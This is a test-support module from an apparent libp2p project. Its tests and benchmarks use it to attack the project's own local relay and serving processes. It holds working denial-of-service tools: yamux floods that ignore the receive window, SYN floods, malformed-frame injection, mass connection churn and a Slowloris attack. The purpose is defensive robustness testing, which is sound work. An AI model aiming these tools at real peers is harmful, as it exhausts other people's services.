"""Misbehaving peers: what an attacker can do to a relay or a serving node (issue #11).

Tests (``tests/test_hostile.py``, ``tests/test_churn.py``) and benchmarks
(``benchmarks/churn.py``) attack a peerup process from the outside with these
tools, the way a stranger on the internet could: nothing here is a mock, and
nothing needs the target's cooperation or its keys.

Two kinds of tools:

* :func:`connect` makes a REAL libp2p connection from a fresh identity: TCP,
  multistream-select, Noise XX, yamux, with the same classes a libp2p host uses
  (``TransportUpgrader``, the Noise transport, ``Yamux``). What it skips is the
  host around them (peerstore, identify, swarm, services), which is why it costs
  about 4 ms per connection instead of about 200 ms for ``new_host()`` +
  ``host.run()`` + ``connect()`` + close (fixed sleeps in close paths). On the
  resulting :class:`HostileConnection` the attacker then writes yamux frames
  itself, bypassing the flow control a well-behaved peer obeys: DATA beyond the
  receive window (:meth:`HostileConnection.flood_stream`,
  :meth:`~HostileConnection.flood_new_streams`), floods of stream SYNs
  (:meth:`~HostileConnection.syn_flood`), garbage after the handshake
  (:meth:`~HostileConnection.send_garbage`). :func:`churn` opens and closes
  thousands of such connections.
* :class:`Slowloris` uses plain sockets (optionally from another source address
  in 127/8, so a per-source-IP limit can be tested on one machine): many
  connections that dribble one byte of a multistream header per interval and
  never finish the handshake.

Every loop is bounded by a count and a deadline, so a tool that meets a target
which does not push back (py-libp2p 0.8.1 without peerup's session: see
docs/security.md, "Limits on strangers") ends on its own. Needs trio (py-libp2p runs only on trio).
"""

from __future__ import annotations

import contextlib
import os
import random
import socket
import struct
import subprocess
import time
from collections import Counter
from collections.abc import AsyncIterator, Callable, Iterator, Sequence
from contextlib import asynccontextmanager, contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING, Protocol

import multiaddr
import trio
from libp2p.crypto.ed25519 import create_new_key_pair
from libp2p.crypto.keys import KeyPair
from libp2p.crypto.x25519 import create_new_key_pair as create_x25519_key_pair
from libp2p.custom_types import TProtocol
from libp2p.exceptions import BaseLibp2pError
from libp2p.io.trio import TrioTCPStream
from libp2p.network.connection.raw_connection import RawConnection
from libp2p.peer.id import ID
from libp2p.protocol_muxer.exceptions import MultiselectError
from libp2p.protocol_muxer.multiselect import Multiselect
from libp2p.protocol_muxer.multiselect_client import MultiselectClient
from libp2p.protocol_muxer.multiselect_communicator import MultiselectCommunicator
from libp2p.security.noise.transport import PROTOCOL_ID as NOISE_PROTOCOL_ID
from libp2p.security.noise.transport import Transport as NoiseTransport
from libp2p.stream_muxer.yamux import yamux
from libp2p.transport.exceptions import MuxerUpgradeFailure, SecurityUpgradeFailure
from libp2p.transport.upgrader import TransportUpgrader
from libp2p.utils import encode_delim

if TYPE_CHECKING:
    from peerup.testing import CliProc

#: Protocols every peerup node answers, whatever its role and authorization settings.
IDENTIFY = "/ipfs/id/1.0.0"
LIBP2P_PING = "/ipfs/ping/1.0.0"
PEERUP_PING = "/peerup/ping/1.0.0"

#: What a libp2p dialer sends first on a new TCP connection (and on a new stream).
MULTISTREAM_HEADER = encode_delim(b"/multistream/1.0.0")
#: A yamux frame carries at most this much payload in go-yamux and py-libp2p
#: (MAX_MESSAGE_SIZE counts the 12-byte header).
FRAME_PAYLOAD = yamux.MAX_MESSAGE_SIZE - yamux.HEADER_SIZE
#: The receive window every yamux stream starts with (256 KiB, yamux spec).
INITIAL_WINDOW = yamux.DEFAULT_WINDOW_SIZE
#: The largest DATA frame py-libp2p 0.8.1 reads before it closes the connection.
MAX_ACCEPTED_FRAME = yamux.MAX_WINDOW_SIZE
#: Streams the attacker numbers itself start here, far from the ones :meth:`HostileConnection.open_stream` uses.
_RAW_STREAM_BASE = 1_000_001

#: What "the connection broke" looks like from this side, whichever layer noticed first.
BROKEN = (BaseLibp2pError, OSError, trio.BrokenResourceError, trio.ClosedResourceError)

GARBAGE_KINDS = ("random", "bad-version", "oversized-frame", "noise")


def frame(typ: int, flags: int, stream_id: int, length: int, version: int = 0) -> bytes:
    """One 12-byte yamux header: version, type, flags, stream id, length (or window delta, ping value, error code)."""
    return struct.pack(yamux.YAMUX_HEADER_FORMAT, version, typ, flags, stream_id, length)


def negotiation(protocol: str) -> bytes:
    """The bytes a dialer sends to select ``protocol`` on a new stream (header + protocol, in one go)."""
    return MULTISTREAM_HEADER + encode_delim(protocol.encode())


@dataclass(frozen=True)
class Target:
    """Where to attack: host, port and the peer ID the Noise handshake must prove."""

    host: str
    port: int
    peer_id: ID

    @classmethod
    def parse(cls, addr: str) -> Target:
        """From ``/ip4/H/tcp/P/p2p/ID`` (what ``peerup relay serve`` and ``peerup serve`` print)."""
        maddr = multiaddr.Multiaddr(addr)
        peer = maddr.get_peer_id()
        if peer is None:
            raise ValueError(f"{addr!r}: needs /p2p/<peer ID> at the end")
        return cls(str(maddr.value_for_protocol("ip4")), int(maddr.value_for_protocol("tcp")), ID.from_base58(peer))

    def __str__(self) -> str:
        return f"/ip4/{self.host}/tcp/{self.port}/p2p/{self.peer_id.to_base58()}"


class DialFailed(Exception):
    """The target did not let a fresh peer through the handshake.

    ``phase`` says how far it got: ``"tcp"`` (no TCP connection), ``"security"``
    (closed or refused during multistream/Noise: what a full inbound limiter
    looks like from outside), ``"muxer"`` (closed during the yamux
    negotiation) or ``"timeout"`` (no progress within the dial timeout).
    """

    def __init__(self, phase: str, detail: str) -> None:
        super().__init__(f"{phase}: {detail}")
        self.phase = phase
        self.detail = detail


async def open_tcp(host: str, port: int, source_ip: str | None = None) -> trio.SocketStream:
    """A TCP connection to host:port, from ``source_ip`` if given (any 127/8 address works on Linux)."""
    sock = trio.socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    try:
        if source_ip is not None:
            await sock.bind((source_ip, 0))
        await sock.connect((host, port))
    except BaseException:
        sock.close()
        raise
    return trio.SocketStream(sock)


def _upgrader(key_pair: KeyPair) -> TransportUpgrader:
    """What ``new_host()`` builds for Noise + yamux only (libp2p/__init__.py new_swarm)."""
    noise = NoiseTransport(key_pair, noise_privkey=create_x25519_key_pair().private_key)
    return TransportUpgrader({TProtocol(NOISE_PROTOCOL_ID): noise}, {TProtocol(yamux.PROTOCOL_ID): yamux.Yamux})


def _why(exc: BaseException) -> str:
    """The first line of ``exc`` and of its causes: "failed to negotiate ..." alone hides the reason."""
    parts: list[str] = []
    seen: BaseException | None = exc
    while seen is not None and len(parts) < 3:
        text = str(seen).strip().splitlines()
        parts.append(f"{type(seen).__name__}: {text[0]}" if text else type(seen).__name__)
        seen = seen.__cause__
    return " <- ".join(parts)


@dataclass
class FloodResult:
    """What a flood got through before the target pushed back (or the budget ran out)."""

    sent: int = 0
    """Bytes of DATA payload handed to the connection."""
    frames: int = 0
    streams: int = 0
    """New streams opened by the flood (SYN floods, :meth:`HostileConnection.flood_new_streams`)."""
    dropped: bool = False
    """The target closed the connection (GO_AWAY or TCP close) while the flood ran."""
    error: str = ""
    seconds: float = 0.0


class HostileConnection:
    """A libp2p connection whose owner writes yamux frames by hand.

    ``muxed`` is a real :class:`libp2p.stream_muxer.yamux.yamux.Yamux` running
    its reader (so the target's PINGs, window updates and GO_AWAY are processed
    as a normal peer would); :meth:`write_frames` goes through its write lock,
    so hand-made frames never interleave with the ones yamux sends itself.
    Pings the target sends (keepalive) are answered; every other stream it
    opens towards us (identify, DHT) is reset at once.
    """

    def __init__(
        self, target: Target, key_pair: KeyPair, raw: RawConnection, secured: object, muxed: yamux.Yamux
    ) -> None:
        self.target = target
        self.key_pair = key_pair
        self.raw = raw
        self.secured = secured
        self.muxed = muxed
        self._next_raw_stream = _RAW_STREAM_BASE

    @property
    def peer_id(self) -> str:
        """Our fresh identity."""
        return ID.from_pubkey(self.key_pair.public_key).to_base58()

    @property
    def closed(self) -> bool:
        """The connection ended: the target sent GO_AWAY or closed TCP (or we closed it)."""
        return self.muxed.event_shutting_down.is_set()

    async def wait_closed(self, timeout: float) -> bool:
        """Wait up to ``timeout`` s for the target to end the connection; True if it did."""
        with trio.move_on_after(timeout):
            await self.muxed.event_closed.wait()
        return self.closed

    def new_stream_id(self) -> int:
        """An odd (dialer-side) stream ID no stream of ours uses yet."""
        sid = self._next_raw_stream
        self._next_raw_stream += 2
        return sid

    async def write_frames(self, data: bytes) -> None:
        """Hand-made frames, under yamux's write lock (a whole number of frames, or garbage on purpose)."""
        await self.muxed._write_frame(data)

    async def open_stream(self, protocol: str, timeout: float = 10.0) -> yamux.YamuxStream:
        """A stream negotiated the normal way (SYN, multistream-select); the attacker then abuses its ID."""
        with trio.fail_after(timeout):
            stream = await self.muxed.open_stream()
            await MultiselectClient().select_one_of([TProtocol(protocol)], MultiselectCommunicator(stream))
        return stream

    async def yamux_ping(self, timeout: float = 5.0) -> float:
        """One yamux PING round trip. Returns seconds.

        The target's muxer reads a connection in order, so an answer also
        proves it has read everything sent before the PING: after a flood, this
        is the moment the target holds all of it (or has dropped us). Uses the
        ``_ping_event`` the upstream RTT loop waits on (yamux.py sets it when a
        PING ACK arrives). Raises ``trio.TooSlowError`` without an answer and
        ``trio.BrokenResourceError`` if the connection ends first.
        """
        event = trio.Event()
        self.muxed._ping_event = event
        started = trio.current_time()
        self.muxed._ping_sent_time = started
        with trio.fail_after(timeout):
            await self.write_frames(frame(yamux.TYPE_PING, yamux.FLAG_SYN, 0, random.getrandbits(31)))
            # Upstream's RTT loop (yamux.py:703-725) replaces ``_ping_event`` when it
            # sends its own PING, which a flood can delay until just after ours; the
            # ACK of a PING sent after ours proves as much, so either event counts.
            while not event.is_set() and not (self.muxed._ping_event is not event and self.muxed._ping_event.is_set()):
                if self.closed:
                    raise trio.BrokenResourceError("the connection ended before the PING was answered")
                with trio.move_on_after(0.05):
                    await event.wait()
        return trio.current_time() - started

    async def settle(self, timeout: float = 60.0) -> str:
        """After an attack: wait until the target has read everything sent, or has dropped us.

        Returns ``"dropped"`` (the target ended the connection), ``"served"``
        (it answered a PING sent after the attack, so it has read all of it) or
        ``"stuck"`` (neither within ``timeout``: the target neither serves this
        connection nor closes it).
        """
        if not self.closed:
            with contextlib.suppress(trio.TooSlowError, *BROKEN):
                await self.yamux_ping(timeout)
                return "served"
        return "dropped" if self.closed else "stuck"

    async def echo(self, protocol: str = PEERUP_PING, size: int = 32, timeout: float = 10.0) -> float:
        """A ping at the application level (``size`` bytes out and back on a new stream). Returns seconds."""
        started = trio.current_time()
        with trio.fail_after(timeout):
            stream = await self.open_stream(protocol, timeout)
            payload = os.urandom(size)
            await stream.write(payload)
            got = b""
            while len(got) < size:
                got += await stream.read(size - len(got))
            await stream.close()
        if got != payload:
            raise AssertionError(f"{protocol} echoed {got!r}, not what was sent")
        return trio.current_time() - started

    async def _flood(self, frames: Callable[[], bytes | None], result: FloodResult, deadline: float) -> FloodResult:
        """Write what ``frames()`` returns until it returns None, the deadline passes or the target drops us."""
        started = time.monotonic()
        with trio.move_on_after(deadline):
            try:
                while not self.closed:
                    batch = frames()
                    if batch is None:
                        break
                    await self.write_frames(batch)
            except BROKEN as exc:
                result.error = _why(exc)
        result.dropped = self.closed or bool(result.error)
        result.seconds = time.monotonic() - started
        return result

    async def flood_stream(
        self,
        stream_id: int,
        total: int,
        *,
        flags: int = 0,
        frame_payload: int = FRAME_PAYLOAD,
        frames_per_write: int = 4,
        deadline: float = 60.0,
    ) -> FloodResult:
        """DATA frames on ``stream_id`` totalling ``total`` bytes, ignoring the receive window.

        A well-behaved sender stops after the window the receiver granted
        (256 KiB to start with) and waits for WINDOW_UPDATEs; this one never
        waits. ``flags=yamux.FLAG_ACK`` sends them as DATA+ACK, which upstream
        handles in a separate branch of ``handle_incoming``.
        """
        result = FloodResult()
        block = frame(yamux.TYPE_DATA, flags, stream_id, frame_payload) + bytes(frame_payload)
        full = block * frames_per_write

        def frames() -> bytes | None:
            left = total - result.sent
            if left <= 0:
                return None
            if left >= frame_payload * frames_per_write:
                result.sent += frame_payload * frames_per_write
                result.frames += frames_per_write
                return full
            count, rest = divmod(left, frame_payload)
            tail = frame(yamux.TYPE_DATA, flags, stream_id, rest) + bytes(rest) if rest else b""
            result.sent += left
            result.frames += count + (1 if rest else 0)
            return block * count + tail

        return await self._flood(frames, result, deadline)

    async def flood_new_streams(
        self, total: int, *, per_stream: int = 4 * 1024 * 1024, protocol: str = IDENTIFY, deadline: float = 60.0
    ) -> FloodResult:
        """New streams whose SYN frame already carries ``per_stream`` bytes (16x the initial window by default).

        Each DATA+SYN frame selects ``protocol`` (identify: the target answers
        and never reads again), followed by zeros nobody will read. Upstream
        buffers the whole frame before it looks at any window.
        """
        result = FloodResult()
        head = negotiation(protocol)
        if not len(head) <= per_stream <= MAX_ACCEPTED_FRAME:
            raise ValueError(f"per_stream must be between {len(head)} and {MAX_ACCEPTED_FRAME}")
        body = head + bytes(per_stream - len(head))

        def frames() -> bytes | None:
            if result.sent >= total:
                return None
            result.sent += per_stream
            result.frames += 1
            result.streams += 1
            return frame(yamux.TYPE_DATA, yamux.FLAG_SYN, self.new_stream_id(), per_stream) + body

        return await self._flood(frames, result, deadline)

    async def syn_flood(
        self, count: int, *, protocol: str | None = PEERUP_PING, per_write: int = 256, deadline: float = 30.0
    ) -> FloodResult:
        """``count`` new streams on this one connection, as fast as the socket takes them, never closed.

        With ``protocol`` each SYN carries the negotiation for it, so the target
        starts a handler per stream (the peerup ping handler waits for data);
        with None they are bare WINDOW_UPDATE+SYN frames (each still costs the
        target a stream, an ACK and a negotiation task).
        """
        result = FloodResult()
        payload = negotiation(protocol) if protocol is not None else b""

        def one() -> bytes:
            sid = self.new_stream_id()
            if payload:
                return frame(yamux.TYPE_DATA, yamux.FLAG_SYN, sid, len(payload)) + payload
            return frame(yamux.TYPE_WINDOW_UPDATE, yamux.FLAG_SYN, sid, 0)

        def frames() -> bytes | None:
            n = min(per_write, count - result.streams)
            if n <= 0:
                return None
            result.streams += n
            result.frames += n
            result.sent += n * len(payload)
            return b"".join(one() for _ in range(n))

        return await self._flood(frames, result, deadline)

    async def send_garbage(self, kind: str, *, size: int = 64 * 1024, seed: int = 0) -> None:
        """Break the protocol after a completed handshake.

        * ``random``: ``size`` random bytes where yamux frames belong (inside Noise);
        * ``bad-version``: well-formed PING frames with yamux version 1 (only 0 exists);
        * ``oversized-frame``: a DATA header announcing 4 GiB - 1, then ``size`` bytes;
        * ``noise``: ``size`` random bytes on the TCP connection below Noise, so
          the target's next decryption fails.
        """
        rng = random.Random(seed)
        if kind == "random":
            await self.write_frames(rng.randbytes(size))
        elif kind == "bad-version":
            await self.write_frames(
                b"".join(frame(yamux.TYPE_PING, yamux.FLAG_SYN, 0, n, version=1) for n in range(1, 9))
            )
        elif kind == "oversized-frame":
            await self.write_frames(frame(yamux.TYPE_DATA, 0, 1, 0xFFFFFFFF) + rng.randbytes(size))
        elif kind == "noise":
            async with self.muxed._write_lock:  # no yamux frame may be half-written below us
                await self.raw.write(rng.randbytes(size))
        else:
            raise ValueError(f"kind must be one of {GARBAGE_KINDS}, not {kind!r}")

    async def _answer_inbound_streams(self) -> None:
        """Answer the target's pings (libp2p's and peerup's) and reset every other stream it opens.

        A real attacker stays connected: peerup's keepalive pings every peer and
        closes the connection of one that does not answer, which would end an
        attack for a reason that has nothing to do with what is being tested.
        """
        async with trio.open_nursery() as nursery:
            while True:
                try:
                    stream = await self.muxed.accept_stream()
                except BROKEN:
                    nursery.cancel_scope.cancel()
                    return
                nursery.start_soon(self._answer_stream, stream)

    async def _answer_stream(self, stream: yamux.YamuxStream) -> None:
        select = Multiselect({TProtocol(LIBP2P_PING): None, TProtocol(PEERUP_PING): None})
        try:
            with trio.fail_after(10):
                protocol, _ = await select.negotiate(MultiselectCommunicator(stream))
            if protocol is None:
                raise MultiselectError("no protocol")
            while True:  # echo: the ping protocols' server side
                data = await stream.read(4096)
                if not data:
                    break
                await stream.write(data)
        except (trio.TooSlowError, *BROKEN):
            pass
        finally:
            with contextlib.suppress(*BROKEN):
                await stream.reset()

    async def _close(self) -> None:
        """GO_AWAY and close TCP, without yamux's close() (its fixed 100 ms sleep)."""
        with trio.CancelScope(shield=True), trio.move_on_after(2):
            if not self.closed:
                self.muxed.event_shutting_down.set()
                with contextlib.suppress(*BROKEN):
                    await self.write_frames(frame(yamux.TYPE_GO_AWAY, 0, 0, yamux.GO_AWAY_NORMAL))
            with contextlib.suppress(*BROKEN):
                await self.raw.close()
            self.muxed.event_closed.set()


def fresh_key_pair() -> KeyPair:
    """A new ed25519 identity: every call is a peer the target has never seen."""
    return create_new_key_pair()


@asynccontextmanager
async def connect(
    target: Target | str, *, key_pair: KeyPair | None = None, source_ip: str | None = None, timeout: float = 10.0
) -> AsyncIterator[HostileConnection]:
    """A real libp2p connection to ``target`` from a fresh identity (or ``key_pair``).

    :raises DialFailed: the target refused, closed or stalled the handshake.
    """
    if isinstance(target, str):
        target = Target.parse(target)
    key_pair = key_pair or fresh_key_pair()
    upgrader = _upgrader(key_pair)
    phase = "tcp"
    raw: RawConnection | None = None
    try:
        with trio.fail_after(timeout):
            raw = RawConnection(TrioTCPStream(await open_tcp(target.host, target.port, source_ip)), True)
            phase = "security"
            secured = await upgrader.upgrade_security(raw, True, target.peer_id)
            phase = "muxer"
            muxed = await upgrader.upgrade_connection(secured, target.peer_id)
    except (trio.TooSlowError, OSError, SecurityUpgradeFailure, MuxerUpgradeFailure) as exc:
        if raw is not None:
            with trio.CancelScope(shield=True), contextlib.suppress(*BROKEN):
                await raw.close()
        if isinstance(exc, trio.TooSlowError):
            raise DialFailed("timeout", f"no handshake within {timeout:g} s (stuck in {phase})") from exc
        raise DialFailed(phase, _why(exc)) from exc
    if not isinstance(muxed, yamux.Yamux):
        await raw.close()
        raise DialFailed("muxer", f"target chose {type(muxed).__name__}, not yamux")
    conn = HostileConnection(target, key_pair, raw, secured, muxed)
    try:
        async with trio.open_nursery() as nursery:
            nursery.start_soon(muxed.start)
            nursery.start_soon(conn._answer_inbound_streams)
            with trio.fail_after(timeout):
                await muxed.event_started.wait()
            try:
                yield conn
            finally:
                nursery.cancel_scope.cancel()
    finally:
        await conn._close()


# -- many connections ---------------------------------------------------------------


@dataclass
class ChurnStats:
    """Outcome of :func:`churn`: how many fresh peers got a working connection, and why the others did not."""

    attempted: int = 0
    ok: int = 0
    failed: int = 0
    by_phase: Counter[str] = field(default_factory=Counter)
    """Failures by :attr:`DialFailed.phase`, plus ``"session"`` (handshake done, no PING answer)."""
    first_failure: int | None = None
    """Index (in start order) of the first cycle that failed."""
    last_ok: int | None = None
    first_error: str = ""
    seconds: float = 0.0

    @property
    def rate(self) -> float:
        """Cycles per second."""
        return self.attempted / self.seconds if self.seconds else 0.0

    def summary(self) -> str:
        phases = ", ".join(f"{k} {v}" for k, v in sorted(self.by_phase.items())) or "none"
        return (
            f"{self.ok}/{self.attempted} ok in {self.seconds:.1f} s ({self.rate:.0f}/s); failures: {phases}; "
            f"first failure at cycle {self.first_failure}, last success at {self.last_ok}; first error: "
            f"{self.first_error or '-'}"
        )


async def probe(addr: Target | str, *, source_ip: str | None = "127.0.0.1", timeout: float = 10.0) -> str:
    """A well-behaved new peer: handshake, then a /peerup/ping round trip. '' if it worked, else why not."""
    try:
        async with connect(addr, source_ip=source_ip, timeout=timeout) as conn:
            await conn.echo(PEERUP_PING, timeout=timeout)
    except DialFailed as exc:
        return f"dial failed: {exc}"
    except (trio.TooSlowError, AssertionError, *BROKEN) as exc:
        return f"no echo: {_why(exc)}"
    return ""


async def connect_once(
    target: Target, *, source_ip: str | None = None, timeout: float = 10.0, verify: bool = True
) -> DialFailed | None:
    """One churn cycle: fresh identity, dial, handshake, (PING), close. None on success, else what failed."""
    try:
        async with connect(target, source_ip=source_ip, timeout=timeout) as conn:
            if verify:
                try:
                    await conn.yamux_ping(timeout)
                except (trio.TooSlowError, *BROKEN) as exc:
                    return DialFailed("session", f"no PING answer after the handshake: {_why(exc)}")
    except DialFailed as exc:
        return exc
    return None


async def churn(
    target: Target | str,
    cycles: int,
    *,
    concurrency: int = 8,
    source_ip: str | None = None,
    timeout: float = 10.0,
    deadline: float = 600.0,
    verify: bool = True,
    rate: float | None = None,
    stats: ChurnStats | None = None,
    on_result: Callable[[int, str | None], None] | None = None,
) -> ChurnStats:
    """``cycles`` connect-and-close cycles, each from a fresh identity, ``concurrency`` at a time.

    Each cycle is a real dial, Noise handshake and yamux session (plus a yamux
    PING round trip if ``verify``), then GO_AWAY and close. ``rate`` caps new
    cycles per second (None: as fast as ``concurrency`` allows). Stops early at
    ``deadline`` seconds. ``stats`` (if given) is filled in as cycles end, for
    a watcher; ``on_result(index, phase_or_None)`` sees every outcome.
    """
    if isinstance(target, str):
        target = Target.parse(target)
    stats = stats if stats is not None else ChurnStats()
    started = time.monotonic()
    counter = iter(range(cycles))
    next_start = trio.current_time()

    async def pace() -> None:
        nonlocal next_start
        if rate:
            now = trio.current_time()
            slot = max(now, next_start)
            next_start = slot + 1.0 / rate
            await trio.sleep(slot - now)

    async def worker() -> None:
        for index in counter:
            await pace()
            stats.attempted += 1
            failure = await connect_once(target, source_ip=source_ip, timeout=timeout, verify=verify)
            if failure is None:
                stats.ok += 1
                stats.last_ok = max(stats.last_ok or 0, index)
            else:
                stats.failed += 1
                stats.by_phase[failure.phase] += 1
                if stats.first_failure is None or index < stats.first_failure:
                    stats.first_failure = index
                    stats.first_error = str(failure)
            if on_result is not None:
                on_result(index, None if failure is None else failure.phase)

    with trio.move_on_after(deadline):
        async with trio.open_nursery() as nursery:
            for _ in range(max(1, concurrency)):
                nursery.start_soon(worker)
    stats.seconds += time.monotonic() - started
    return stats


# -- raw sockets ------------------------------------------------------------------


@dataclass
class SlowlorisStats:
    """What :class:`Slowloris` saw; live while it runs."""

    connects: int = 0
    connect_errors: int = 0
    closed_by_target: int = 0
    """Connections the target ended (FIN or RST) while they dribbled."""
    refused_fast: int = 0
    """Of those, closed within 0.5 s of the connect: the target turned them away."""
    open_now: int = 0
    max_open: int = 0
    bytes_sent: int = 0
    held: list[float] = field(default_factory=list)
    """Seconds each connection the target closed had been open."""

    def summary(self) -> str:
        held = sorted(self.held)
        median = held[len(held) // 2] if held else 0.0
        return (
            f"{self.connects} connects ({self.connect_errors} failed), max {self.max_open} open at once, "
            f"{self.closed_by_target} closed by the target ({self.refused_fast} within 0.5 s), "
            f"median hold {median:.1f} s, {self.bytes_sent} bytes sent"
        )


class _TaskStatus(Protocol):
    """What ``nursery.start`` passes (trio 0.22 does not export the type)."""

    def started(self, value: SlowlorisStats) -> None: ...


class _Closed(Exception):
    """The target ended a slowloris connection."""


class Slowloris:
    """``sockets`` TCP connections that each send one byte of ``payload`` per ``interval``.

    The default payload is a multistream header, the first thing a libp2p
    dialer sends; at one byte a second it never completes, so each connection
    sits in the target's pre-handshake phase until the target gives up on it.
    When the target closes one, it is reopened after ``reopen_delay`` (a slow
    attacker, not a connect storm). Connections come from ``source_ips`` in
    turn, so a per-source-IP limit can be exercised from 127.0.0.2 and up.
    Runs for at most ``duration`` seconds, or until :meth:`stop`.
    """

    def __init__(
        self,
        host: str,
        port: int,
        *,
        sockets: int = 300,
        source_ips: Sequence[str] = ("127.0.0.2",),
        interval: float = 1.0,
        duration: float = 30.0,
        reopen_delay: float = 1.0,
        ramp: float = 1.0,
        payload: bytes = MULTISTREAM_HEADER,
    ) -> None:
        if not source_ips or not payload:
            raise ValueError("need at least one source address and a non-empty payload")
        self.host = host
        self.port = port
        self.sockets = sockets
        self.source_ips = list(source_ips)
        self.interval = interval
        self.duration = duration
        self.reopen_delay = reopen_delay
        self.ramp = ramp
        self.payload = payload
        self.stats = SlowlorisStats()
        self._stop = trio.Event()

    def stop(self) -> None:
        self._stop.set()

    async def wait_open(self, count: int, timeout: float) -> bool:
        """Wait until ``count`` connections are open at once (or ``timeout``); True if they were."""
        with trio.move_on_after(timeout):
            while self.stats.max_open < count:
                await trio.sleep(0.05)
        return self.stats.max_open >= count

    async def run(self, *, task_status: _TaskStatus = trio.TASK_STATUS_IGNORED) -> SlowlorisStats:
        """Run the attack; ``task_status.started`` as soon as the workers exist."""
        with trio.move_on_after(self.duration):
            async with trio.open_nursery() as nursery:
                for n in range(self.sockets):
                    nursery.start_soon(self._worker, n)
                task_status.started(self.stats)
                await self._stop.wait()
                nursery.cancel_scope.cancel()
        return self.stats

    async def _worker(self, n: int) -> None:
        source = self.source_ips[n % len(self.source_ips)]
        await trio.sleep(self.ramp * n / max(1, self.sockets))
        offset = n  # each connection starts elsewhere in the payload: they do not move in lockstep
        while not self._stop.is_set():
            try:
                stream = await open_tcp(self.host, self.port, source)
            except OSError:
                self.stats.connect_errors += 1
                await trio.sleep(self.reopen_delay)
                continue
            self.stats.connects += 1
            self.stats.open_now += 1
            self.stats.max_open = max(self.stats.max_open, self.stats.open_now)
            opened = trio.current_time()
            try:
                offset = await self._dribble(stream, offset)
            except _Closed:
                held = trio.current_time() - opened
                self.stats.closed_by_target += 1
                self.stats.refused_fast += held < 0.5
                self.stats.held.append(held)
            finally:
                self.stats.open_now -= 1
                with trio.CancelScope(shield=True):
                    await trio.aclose_forcefully(stream)
            await trio.sleep(self.reopen_delay)

    async def _dribble(self, stream: trio.SocketStream, offset: int) -> int:
        """Send one byte per interval, reading (and ignoring) whatever comes back, until the target closes."""
        next_send = trio.current_time()
        try:
            while not self._stop.is_set():
                with trio.move_on_at(next_send):
                    while True:
                        if not await stream.receive_some(4096):
                            raise _Closed
                byte = self.payload[offset % len(self.payload)]
                await stream.send_all(bytes([byte]))
                self.stats.bytes_sent += 1
                offset += 1
                next_send += self.interval
        except (OSError, trio.BrokenResourceError) as exc:
            raise _Closed from exc
        return offset


# -- watching the target process ----------------------------------------------------------


def process_rss(pid: int) -> int:
    """Resident memory of process ``pid`` in bytes (VmRSS in /proc/PID/status)."""
    with open(f"/proc/{pid}/status") as status:
        for line in status:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) * 1024
    raise ValueError(f"no VmRSS for process {pid}")


def process_fds(pid: int) -> int:
    """Open file descriptors of process ``pid``."""
    return len(os.listdir(f"/proc/{pid}/fd"))


@dataclass
class Watch:
    """Peak RSS and FD count of a process, sampled every ``interval`` s by :meth:`run` until cancelled."""

    pid: int
    interval: float = 0.1
    peak_rss: int = 0
    peak_fds: int = 0
    samples: int = 0

    def sample(self) -> tuple[int, int]:
        rss, fds = process_rss(self.pid), process_fds(self.pid)
        self.peak_rss = max(self.peak_rss, rss)
        self.peak_fds = max(self.peak_fds, fds)
        self.samples += 1
        return rss, fds

    async def run(self) -> None:
        while True:
            try:
                self.sample()
            except (OSError, ValueError):
                return  # the process is gone: what it reached so far stands
            await trio.sleep(self.interval)


# -- targets in separate processes ------------------------------------------------------


class EchoService:
    """A real TCP echo service on 127.0.0.1 in a thread (the service a ``peerup serve`` target exposes)."""

    def __init__(self) -> None:
        import threading

        self._server = socket.create_server(("127.0.0.1", 0))
        self._server.settimeout(0.2)
        self._stop = threading.Event()
        self.port = int(self._server.getsockname()[1])
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        import threading

        while not self._stop.is_set():
            try:
                conn, _ = self._server.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            threading.Thread(target=self._echo, args=(conn,), daemon=True).start()

    @staticmethod
    def _echo(conn: socket.socket) -> None:
        with conn, contextlib.suppress(OSError):
            while data := conn.recv(65536):
                conn.sendall(data)

    def close(self) -> None:
        self._stop.set()
        self._thread.join(5)
        self._server.close()


class Lab:
    """A relay, a serving node and a client home: the targets of an attack, as real ``peerup`` processes.

    Each has its own home, as on three machines. The relay lets only the
    serving node and the client reserve and open circuits (``relay.allow``), and
    the serving node serves only the client (``authorized_keys``): what an
    attacker does with these tools must not need either permission. Processes
    are :class:`peerup.testing.CliProc` (stdout/stderr lines collected);
    ``stop()`` ends them all.
    """

    def __init__(self, root: Path) -> None:
        from peerup.plugins.libp2p.identity import create_identity

        self.root = root
        self.homes = {name: root / name for name in ("relay", "server", "client")}
        self.ids = {name: create_identity(home) for name, home in self.homes.items()}
        self.procs: list[CliProc] = []
        self.relay: CliProc | None = None
        self.server: CliProc | None = None
        self.echo: EchoService | None = None
        self.relay_addr = ""
        self.server_direct = ""

    @classmethod
    @contextmanager
    def running(cls, root: Path) -> Iterator[Lab]:
        """A started relay and serving node; everything stopped afterwards, also on failure."""
        lab = cls(root)
        try:
            lab.start_relay()
            lab.start_server()
            yield lab
        finally:
            lab.stop()

    def _start(self, name: str, args: list[str]) -> CliProc:
        from peerup.testing import CliProc

        proc = CliProc(name, ["--home", str(self.homes[name]), *args])
        self.procs.append(proc)
        return proc

    def start_relay(self, *, allow_only_lab: bool = True, timeout: float = 30.0) -> str:
        """``peerup relay serve`` on 127.0.0.1; returns its address."""
        if allow_only_lab:
            import tomli_w

            config = {"relay": {"allow": [self.ids["server"], self.ids["client"]]}}
            (self.homes["relay"] / "config.toml").write_text(tomli_w.dumps(config))
        self.relay = self._start("relay", ["relay", "serve", "--listen", "/ip4/127.0.0.1/tcp/0"])
        self.relay_addr = self.relay.wait_for(r"(/ip4/127\.0\.0\.1/tcp/\d+/p2p/\S+)", timeout).group(1)
        return self.relay_addr

    def start_server(self, timeout: float = 30.0) -> str:
        """``peerup serve`` with an echo service, reachable through the relay; returns its direct address."""
        self.echo = EchoService()
        (self.homes["server"] / "authorized_keys").write_text(f"{self.ids['client']} client\n")
        self.server = self._start(
            "server",
            [
                "serve",
                "--service",
                f"echo=127.0.0.1:{self.echo.port}",
                "--relay",
                self.relay_addr,
                "--listen",
                "/ip4/127.0.0.1/tcp/0",
            ],
        )
        self.server.wait_for(r"reachable at \S+/p2p-circuit/", timeout)
        self.server_direct = self.server.wait_for(
            r"reachable at (/ip4/127\.0\.0\.1/tcp/\d+/p2p/[^/\s]+)$", timeout
        ).group(1)
        return self.server_direct

